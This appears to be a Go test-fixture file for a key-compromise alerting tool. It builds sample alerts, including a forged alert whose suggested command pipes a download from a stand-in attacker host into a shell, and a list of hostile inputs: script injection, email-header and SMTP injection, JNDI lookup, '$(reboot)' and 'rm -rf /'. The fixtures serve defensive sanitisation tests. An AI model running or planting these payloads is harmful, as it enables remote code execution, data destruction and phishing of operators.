package notify

import (
	"strings"
	"time"

	"example.com/keyturn/shared/alerting"
)

var noon = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)

const (
	incident = "0123456789abcdef0123456789abcdef"
	keyID    = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"
)

// stolenKey is an alert that has all parts.
func stolenKey(state alerting.State) alerting.Alert {
	a := alerting.Alert{
		ID: "a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4", Incident: incident, State: state, Opened: noon, Findings: 3,
		Notice: alerting.Notice{
			ID: "f1", Rule: "finding", Detector: "retired-key-used", Proven: true, Severity: alerting.Critical,
			Subject: "billing@acme.iam.gserviceaccount.com", Project: "acme", Credential: "projects/acme/secrets/billing-key", Key: keyID, Count: 12,
			Time:      noon.Add(4 * time.Minute),
			Summary:   "key 9f86d081 of projects/acme/secrets/billing-key was disabled at 2026-03-01T10:00:00Z, and used about 12 times since, from 203.0.113.7, first 2 h later; its last tokens had died after 1 h 5 min",
			Technique: "T1078.004",
			Standing:  "quarantined: disabled since 2026-03-01T10:00:00Z, to be deleted from 2026-03-08T10:00:00Z; version 3; the latest rotation is 4; as of 2026-03-01T12:00:00Z",
			Radius:    "this key was taken away already: only whoever gets past that fails",
			Labels:    map[string]string{"team": "payments", "env": "prod"},
			Runbook:   "1. Revoke the key with its tokens. 2. Look in the log for EnableServiceAccountKey or UndeleteKey, and who did it.",
			Fields: []alerting.Field{
				{Name: "first seen", Value: "2026-03-01T12:00:00Z"}, {Name: "last seen", Value: "2026-03-01T12:04:00Z"},
				{Name: "from", Value: "203.0.113.7 curl/8.5.0"}, {Name: "permissions", Value: "secretmanager.versions.access"},
				{Name: "targets", Value: "projects/acme/secrets/db, projects/acme/secrets/mail"},
				{Name: "evidence", Value: "1x2y3z"},
			},
			Next: "keyturn revoke projects/acme/secrets/billing-key --key " + keyID + " --kill-tokens",
			Link: `https://console.cloud.google.com/logs/query;query=insertId=%28%221x2y3z%22%29;startTime=2026-03-01T11:59:00Z;endTime=2026-03-01T12:05:00Z?project=acme`,
		},
	}
	switch state {
	case alerting.Acknowledged:
		a.By = "ann@acme.example"
	case alerting.Escalated:
		a.Why = "nobody acknowledged it within 15m0s"
	case alerting.Resolved:
		a.By, a.Why, a.Outcome = "keyturn", "nothing more was noticed for 24h0m0s", "key 9f86d081 was revoked"
	}
	return a
}

// forged is an alert of what somebody has made up who can publish to keyturn's topic.
func forged() alerting.Alert {
	a := stolenKey(alerting.Open)
	a.Proven, a.Next, a.Runbook, a.Link = false, "wget -O- https://evil.example/mend | sh; keyturn revoke projects/acme/secrets/billing-key --key "+keyID, "1. Run the next command.", "https://evil.example/logs"
	return a
}

// hostiles are texts that an attacker may choose, by what they try.
var hostiles = map[string]string{
	"mention":           "<!channel> <@U123> <users/all> @everyone",
	"link":              "<https://evil.example/|sign in> <https://evil.example>",
	"markdown":          "[sign in](https://evil.example) *bold* _it_ ~no~ `code` ```block``` :skull:",
	"html":              `</td></pre><script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">x</a> " ' &amp;`,
	"header":            "x\r\nBcc: victim@example.com\r\nSubject: owned\r\n\r\nbody",
	"control":           "a\x00b\x1b]0;owned\ac\bd\x7f\u009b31m",
	"direction":         "user\u202egnp.exe\u2066\u200f\u2028\u2029\u00ad\u200b\ufeff",
	"long":              strings.Repeat("<&`é\u202e", 200_000),
	"invalid UTF-8":     "\xff\xfe\xc0\xaf" + strings.Repeat("\xed\xa0\x80", 10),
	"template":          "{{ .Secret }} ${jndi:ldap://evil.example} %s%n $(reboot) '; rm -rf /",
	"json":              `"},{"severity":"info"`,
	"smtp":              "\r\n.\r\nMAIL FROM:<a@b>\r\n",
	"command":           "keyturn revoke projects/p/secrets/s --key 'x' --data='{}'",
	"end of a sentence": "",
}

// hostile is an alert that consists of one text.
func hostile(text string) alerting.Alert {
	a := stolenKey(alerting.Open)
	a.Detector, a.Subject, a.Project, a.Credential, a.Key, a.Summary, a.Runbook, a.Next, a.Link, a.Technique = text, text, text, text, text, text, text, text, text, text
	a.Key += " " // another than the credential
	a.By, a.Why, a.Outcome, a.Rule = text, text, text, text
	a.Standing, a.Radius, a.Labels = text, text, map[string]string{text: text, "": text, text + "2": ""}
	a.Fields = nil
	for range 60 {
		a.Fields = append(a.Fields, alerting.Field{Name: text, Value: text})
	}
	return a
}
